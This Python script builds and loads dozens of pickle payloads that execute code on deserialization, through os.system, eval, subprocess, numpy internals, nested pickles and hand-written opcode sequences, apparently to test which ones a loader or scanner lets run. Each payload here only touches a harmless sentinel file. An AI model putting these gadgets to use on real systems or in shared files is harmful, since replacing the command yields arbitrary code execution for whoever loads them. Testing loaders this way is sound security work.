"""Pickles that run something when they are loaded: each would make a file, the sentinel."""

import _io
import contextlib
import functools
import gzip
import io
import json
import logging
import operator
import os
import pathlib
import pickle
import runpy
import shutil
import sqlite3
import struct
import subprocess
import sys
import tarfile
import timeit
from pathlib import Path

import numpy as np


class Call:
    """An object whose pickle is a call."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call

    def __call__(self):
        """Be callable, which pickle asks of the function of a call, here the result of another call."""


def text(value):
    """The opcode that pushes a text."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def live_pickles(sentinel: Path) -> dict[str, bytes]:
    """Return pickles that make the sentinel when `pickle.loads` reads them, and what they do."""
    path, shell, code = str(sentinel), f"touch {sentinel}", f"open({str(sentinel)!r}, 'w').close()"
    script = sentinel.with_name("script.py")
    script.write_text(code)
    objects = io.BytesIO()
    np.save(objects, np.array([Call(exec, code)]), allow_pickle=True)
    objects_file = sentinel.with_name("objects.npy")
    objects_file.write_bytes(objects.getvalue())
    calls = {
        "os.system": Call(os.system, shell),
        "eval": Call(eval, code),
        "exec": Call(exec, code),
        "open": Call(open, path, "w"),
        "FileIO": Call(_io.FileIO, path, "w"),
        "os.open": Call(os.open, path, os.O_CREAT),
        "os.mkdir": Call(os.mkdir, path),
        "os.symlink": Call(os.symlink, script, sentinel),
        "os.spawnvp": Call(os.spawnvp, os.P_WAIT, "touch", ["touch", path]),
        "subprocess.call": Call(subprocess.call, ["touch", path]),
        "subprocess.check_output": Call(subprocess.check_output, ["touch", path]),
        "subprocess.getoutput": Call(subprocess.getoutput, shell),
        "Path.touch": Call(pathlib.Path.touch, sentinel),
        "runpy.run_path": Call(runpy.run_path, str(script)),
        "timeit.timeit": Call(timeit.timeit, code, "pass", timeit.default_timer, 1),
        "shutil.copyfile": Call(shutil.copyfile, str(script), path),
        "gzip.open": Call(gzip.open, path, "w"),
        "tarfile.open": Call(tarfile.TarFile, path, "w"),
        "sqlite3.connect": Call(sqlite3.connect, path),
        "logging.FileHandler": Call(logging.FileHandler, path),
        "numpy.load": Call(np.load, str(objects_file), None, True),
        "numpy.ndarray.tofile": Call(np.ndarray.tofile, np.zeros(1), path),
        "numpy's runstring": Call(np.testing._private.utils.runstring, code, {}),
        "a pickle in the pickle": Call(pickle.loads, pickle.dumps(Call(os.system, shell))),
        "functools.partial": Call(Call(functools.partial, os.system), shell),
        "operator.methodcaller": Call(operator.methodcaller("touch"), sentinel),
        "list of map": Call(list, Call(map, os.system, [shell])),
        "in the type of an array": Call(np.dtype, Call(os.system, shell)),
        "in a pair": ((np.zeros((1, 4), "f4"), Call(os.system, shell)),) * 3,
        "in the state of an array": Stated((1, (1,), np.dtype("f4"), False, Call(os.system, shell))),
    }
    system, argument = b"cposix\nsystem\n", text(shell)
    opcodes = {
        "GLOBAL": system + argument + b"\x85R.",
        "STACK_GLOBAL": b"\x80\x04" + text("posix") + text("system") + b"\x93" + argument + b"\x85R.",
        "a module in a module": b"\x80\x04" + text("pathlib") + text("os.system") + b"\x93" + argument + b"\x85R.",
        "a name in the memo": b"\x80\x04"
        + text("system")
        + b"\x940"
        + text("posix")
        + b"h\x00\x93"
        + argument
        + b"\x85R.",
        "the memo": system + b"q\x00" + argument + b"\x85q\x010" + b"0h\x00h\x01R.",
        "INST": b"(" + argument + b"iposix\nsystem\n.",
        "OBJ": b"(" + system + argument + b"o.",
        "BUILD": b"clogging\nFilterer\n)\x81}" + text("__setstate__") + system + b"sb" + argument + b"b.",
    }
    return {name: pickle.dumps(call) for name, call in calls.items()} | opcodes


class Stated:
    """An object that is pickled as an array with any state."""

    def __init__(self, state):
        self.state = state

    def __reduce__(self):
        return np._core.multiarray._reconstruct, (np.ndarray, (0,), b"b"), self.state


def main(folder: Path) -> None:
    """Load each, as nobody should, and print which have made the sentinel."""
    sentinel, executed = folder / "executed", {}
    for name, raw in live_pickles(sentinel).items():
        with contextlib.suppress(Exception):
            pickle.loads(raw)
        executed[name] = os.path.lexists(sentinel)
        if executed[name]:
            shutil.rmtree(sentinel) if sentinel.is_dir() and not sentinel.is_symlink() else sentinel.unlink()
    print(json.dumps(executed))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
